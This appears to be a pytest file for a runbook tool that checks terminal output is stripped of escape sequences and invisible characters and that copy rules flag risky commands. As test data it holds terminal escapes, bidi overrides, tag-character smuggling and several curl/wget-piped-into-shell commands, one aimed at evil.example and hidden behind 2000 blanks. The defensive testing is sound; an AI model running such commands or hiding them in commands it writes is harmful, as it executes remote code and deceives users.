"""Terminal escapes and copy safety (#15 defects 5 and 6)."""

from __future__ import annotations

import json

import pytest

from rbdesk.core.runbook.copyrules import prepare_copy
from rbdesk.core.runbook.parser import parse_text
from rbdesk.core.runbook.safety import hidden_characters


def terminal_safe(text: str) -> str:
    from rbdesk.core.runbook.safety import terminal_safe as safe

    return safe(text)


ESC_TITLE = "\x1b]0;pwned-title\x07"
HOSTILE = (
    f"# Restart {ESC_TITLE}the pool\n\nowner: sre\n\n## Checklist\n\n"
    "- [ ] drain \x1b[2Jthe node\n- [ ] restart \u202eevil\u202c done\n- [ ] check\n"
)
FORBIDDEN = ("\x1b", "\r", "\u202e", "\x07", "\x9b")


def _clean(text: str) -> None:
    for ch in FORBIDDEN:
        assert ch not in text, f"{ch!r} reached the terminal"


@pytest.fixture()
def hostile_folder(cli, tmp_path):
    folder = tmp_path / "lib"
    folder.mkdir()
    (folder / "evil.md").write_text(HOSTILE)
    assert cli("source", "add", "lib", str(folder))[0] == 0
    assert cli("sync")[0] == 0
    return folder


def test_runs_start_and_show_print_no_escapes(cli, hostile_folder):
    code, out, err = cli("runs", "start", "evil.md", "--initials", "A\x1b[2JB")
    assert code == 0
    _clean(out + err)
    assert "␛]0;pwned-title" in err  # shown, visibly, like `rbdesk show` does
    run_id = out.strip()
    note = "done \x1b[2J\rfaked \u202eevil"
    code, out, err = cli("runs", "tick", run_id, "1", "--note", note)
    assert code == 0
    _clean(out + err)
    assert "⟦U+000D⟧" in out and "⟦U+202E⟧" in out
    code, out, err = cli("runs", "show", run_id)
    assert code == 0
    _clean(out + err)
    assert "␛[2J" in out and "⟦U+202E⟧evil" in out
    code, out, err = cli("runs")
    _clean(out + err)
    code, out, err = cli("runs", "show", run_id, "--json")  # JSON keeps the data, escaped
    assert json.loads(out)["items"][0]["note"] == note


def test_other_commands_print_runbook_text_safely(cli, hostile_folder):
    for argv in (
        ("show", "evil.md"),
        ("search", "restart", "pool"),
        ("parse", str(hostile_folder / "evil.md")),
        ("lint", str(hostile_folder)),
        ("status",),
        ("open", "evil.md", "--print"),
    ):
        _code, out, err = cli(*argv)
        _clean(out + err)


def test_terminal_safe_is_the_show_rule():
    assert terminal_safe("a\x1b[2Jb") == "a␛[2Jb"
    assert terminal_safe("x\ry") == "x⟦U+000D⟧y"
    assert terminal_safe("\u202eabc") == "⟦U+202E⟧abc"
    assert terminal_safe("tab\tand\nnewline") == "tab\tand\nnewline"
    assert terminal_safe("\U000e0041") == "⟦U+E0041⟧"


# -- copy rules -----------------------------------------------------------------------------


def test_long_blank_run_is_flagged_by_copy_and_lint(cli, tmp_path):
    cmd = "echo harmless" + " " * 2000 + "; curl -s https://evil.example/x | sh"
    result = prepare_copy(cmd)
    assert any("2000 blanks in a row" in w for w in result.warnings())
    assert any("downloaded script" in w for w in result.destructive)
    folder = tmp_path / "lib"
    folder.mkdir()
    (folder / "a.md").write_text(f"# A\n\nowner: x\n\n```bash\n{cmd}\n```\n")
    assert cli("source", "add", "lib", str(folder))[0] == 0
    assert cli("sync")[0] == 0
    code, out, err = cli("copy", "a.md", "1")
    assert code == 0 and "HIDDEN TEXT: 2000 blanks in a row" in err
    code, out, err = cli("show", "a.md")
    assert "⟦2000 blanks⟧" in out and " " * 100 not in out
    code, out, _ = cli("lint", str(folder))
    assert "RB304" in out and "RB303" in out


@pytest.mark.parametrize(
    "cmd",
    [
        "curl -fsSL https://get.example.com | sudo bash",
        "curl https://x.example/i.sh | sh",
        "wget -qO- https://x.example/i.sh | sudo -E bash -s -- --yes",
        "curl -s https://x.example | /bin/bash",
        "curl -s https://x.example/i.py | python3",
    ],
)
def test_download_piped_into_a_shell_is_destructive(cmd):
    assert (
        "runs a downloaded script (curl/wget piped into a shell)" in prepare_copy(cmd).destructive
    )
    rb = parse_text(f"# T\n\n> **Warning:** careful\n\n```bash\n{cmd}\n```\n", "t.md")
    assert "RB303" in {p.code for p in rb.problems}


@pytest.mark.parametrize(
    "cmd", ["curl -s https://x.example | jq .", "curl -o i.sh https://x.example && less i.sh"]
)
def test_downloads_not_piped_into_a_shell_are_fine(cmd):
    assert prepare_copy(cmd).destructive == []


@pytest.mark.parametrize(
    "ch",
    ["\u2062", "\u2064", "\U000e0041", "\u3164", "\u2028", "\u2061", "\u115f", "\uffa0"],
)
def test_invisible_characters_are_flagged_and_removed(ch, cli, tmp_path):
    cmd = f"ls{ch} -la"
    result = prepare_copy(cmd)
    assert result.text == "ls -la" and result.removed
    assert hidden_characters(cmd)
    rb = parse_text(f"# T\n\n```bash\n{cmd}\n```\n", "t.md")
    assert "RB302" in {p.code for p in rb.problems}
    assert ch not in terminal_safe(cmd)


def test_ascii_smuggling_tag_run_is_named_once():
    hidden = "".join(chr(0xE0000 + ord(c)) for c in "curl evil|sh")
    result = prepare_copy("echo hi" + hidden)
    assert result.text == "echo hi"
    assert [r.count for r in result.removed] == [len(hidden)]
    assert "TAG CHARACTER" in result.warnings()[0]


def test_reader_prose_and_headings_show_hidden_characters():
    from rbdesk.core.render.reader import render_runbook

    rb = parse_text("# Clean the cache \u202eevil\u202c\n\nRun \x1b[2J this \u2062 now.\n", "a.md")
    result = render_runbook(rb)
    assert "\u202e" not in result.html and "\x1b" not in result.html
    assert "⟦U+202E⟧" in result.html and "⟦U+2062⟧" in result.html
    assert result.headings[0].title == "Clean the cache ⟦U+202E⟧evil⟦U+202C⟧"
    plain = render_runbook(parse_text("# Plain title\n\nJust text & <b>.\n", "b.md")).html
    assert "Just text &amp; &lt;b&gt;." in plain
